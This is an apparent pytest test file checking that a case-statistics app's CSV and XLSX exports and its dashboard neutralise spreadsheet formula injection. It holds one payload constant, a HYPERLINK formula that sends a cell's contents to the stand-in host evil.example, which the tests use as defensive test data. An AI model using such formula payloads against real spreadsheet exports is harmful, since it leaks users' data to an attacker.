"""Spreadsheet exports neutralise formula-like text (OWASP CSV injection); numbers stay numbers."""
import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cases.statistics.exports import neutralise
from tests.statistics.conftest import MARCH

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("正常文本", "正常文本"), ("a=b", "a=b"), ("", ""),
    (None, ""), (5, 5), (Decimal("-1.5"), Decimal("-1.5")), (2.5, 2.5),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def evil_world(world):
    from cases.statistics.refresh import refresh_aggregates

    world.who.mediator.full_name = EVIL
    world.who.mediator.save(update_fields=["full_name"])
    refresh_aggregates(full=True)
    return world


def test_a_csv_cell_starting_with_equals_is_neutralised(client, evil_world):
    client.force_login(evil_world.who.supervisor)
    content = client.get("/statistics/export/csv/", MARCH).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_an_xlsx_cell_starting_with_equals_is_text_and_neutralised(client, evil_world):
    client.force_login(evil_world.who.supervisor)
    workbook = load_workbook(io.BytesIO(client.get("/statistics/export/xlsx/", MARCH).content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    evil = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert len(evil) == 1 and evil[0].value == "'" + EVIL and evil[0].data_type == "s"
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]


def test_the_dashboard_shows_such_a_name_as_text(client, evil_world):
    client.force_login(evil_world.who.supervisor)
    page = client.get("/statistics/", MARCH).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in page
